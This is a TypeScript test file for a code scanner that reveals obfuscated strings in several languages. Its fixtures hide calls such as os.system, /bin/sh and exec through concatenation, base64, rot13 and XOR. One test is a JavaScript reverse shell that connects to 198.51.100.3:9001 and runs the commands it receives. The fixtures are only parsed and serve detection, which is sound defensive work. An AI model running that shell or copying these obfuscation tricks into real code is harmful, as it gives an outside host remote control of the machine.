import { parse } from '../../parse/parser.js';
import type { LanguageId } from '../../tree/syntax-tree.js';
import { loadRules } from '../load-rules.js';
import { runRulesOn } from '../run-rules.js';
import { SourceFile } from '../source-file.js';
import { plainSource } from './plain-source.js';
import { withUnfolded } from './run-unfolded.js';

/** Only ever parsed. */
const disguises: readonly (readonly [LanguageId, string, string])[] = [
  ['python', "import os\ngetattr(os, 'sys' + 'tem')('id')\n", 'os.system('],
  ['python', "x = ''.join(chr(c ^ 7) for c in [102, 101])\nrun(x)\n", '"ab"'],
  ['python', "run('tac'[::-1])\n", '"cat"'],
  [
    'javascript',
    "const m = (s) => require(Buffer.from(s, 'hex').toString()); const c = m('6e6574');",
    'require("net")',
  ],
  ['javascript', "c['ex' + 'ec'](d);", 'c.exec(d)'],
  ['javascript', 'f([97, 98].map((c) => String.fromCharCode(c)).join(""));', 'f("ab")'],
  [
    'java',
    'class A { String x(int... c) { StringBuilder b = new StringBuilder(); for (int i : c) b.append((char) i); return b.toString(); } void f() { g(x(114, 101, 103)); } }',
    'g("reg")',
  ],
  [
    'csharp',
    'class A { static string R(string s) => new string(s.Reverse().ToArray()); void F() { G(R("llehs")); } }',
    'G("shell")',
  ],
  [
    'go',
    'package a\nfunc d(s string) string { b, _ := base64.StdEncoding.DecodeString(s); return string(b) }\nfunc f() { g(d("L2Jpbi9zaA==")) }\n',
    'g("/bin/sh")',
  ],
  ['php', "<?php $f = str_rot13('flfgrz'); $f($x);", 'system($x)'],
  ['ruby', "run([47, 98].pack('c*') + 'in')\n", "'/bin'"],
  [
    'rust',
    'fn s(b: &[u8]) -> String { b.iter().map(|c| (c ^ 0x13) as char).collect() } fn main() { g(s(b"\\x60\\x7b")); }',
    'g("sh")',
  ],
  ['c', "void f(void) { char t[] = { 'n', 't', 'd', 'l', 'l', 0 }; g(t); }", 'g("ntdll")'],
];

describe('what a program spells at run time', () => {
  it.each(disguises)('%s: %s', async (language, code, plain) => {
    const tree = await parse(code, language);
    const written = plainSource(new SourceFile(tree));
    expect(written).toContain(plain);
    expect(written?.split('\n')).toHaveLength(code.split('\n').length);
  });

  it.each<readonly [LanguageId, string]>([
    ['python', "import os\nos.path.join('a', 'b')\nprint('a' 'b' + name)\n"],
    ['javascript', "const base = '/api'; fetch(base + '/users'); ['a', 'b'].join(', ');"],
    ['rust', 'fn main() { let s = String::from("abc"); println!("{}", s.to_string()); }'],
    ['go', 'package a\nfunc f() { g([]byte("abc")) }\n'],
  ])('%s: ordinary code hides nothing: %s', async (language, code) => {
    expect(plainSource(new SourceFile(await parse(code, language)))).toBeNull();
  });

  it('is judged, and the evidence points at the line that was written', async () => {
    const code = [
      "'use strict';",
      "const c = require('child_' + 'process');",
      "const k = require('n' + 'et')['con' + 'nect'](9001, '198.51.100.3');",
      "k.on('data', (d) => c['ex' + 'ec'](d.toString(), (e, o) => k.write(o)));",
    ].join('\n');
    const file = new SourceFile(await parse(code, 'javascript'));
    const rules = await loadRules();
    const plain = runRulesOn(file, rules, {});
    const run = await withUnfolded(file, rules, {}, plain);
    expect([plain.dangerous, run.dangerous]).toEqual([false, true]);
    const finding = run.findings.find(({ rule_id: id }) => id === 'dangerous/received-runs');
    expect(finding?.location.start).toMatchObject({ line: 4, column: 1 });
    expect(finding?.message).toContain('written out, the line reads');
  });

  it('makes one weak sign of an address that is put together, and not two', async () => {
    const code = `<?php
$host = '203.0.113.4:8080';
$body = file_get_contents("http://$host/health");
file_put_contents('/tmp/.health.json', $body);
`;
    const file = new SourceFile(await parse(code, 'php'));
    const rules = await loadRules();
    const run = await withUnfolded(file, rules, {}, runRulesOn(file, rules, {}));
    expect(run.signals.map(({ signal }) => signal)).not.toContain('hidden-words');
  });

  it('ends in time on sums and calls that nest', async () => {
    const sum = `x = ${Array.from({ length: 3000 }, () => "'a'").join(' + ')}\n`;
    const calls = `y = ${'str('.repeat(150)}'a' + 'b'${')'.repeat(150)}\n`;
    const growing = Array.from(
      { length: 40 },
      (_, at) => `a${at + 1} = f'{a${at}}{a${at}}'.replace('a', a${at})\n`,
    ).join('');
    const odd = "b = ''.join(chr(c) for c in [4.2, -1, 9999999])\na0 = 'a' * 99\nrun('a' + 'b', b, a40)\n";
    const file = new SourceFile(await parse(sum + calls + odd + growing, 'python'));
    expect(() => plainSource(file)).not.toThrow();
  });
});
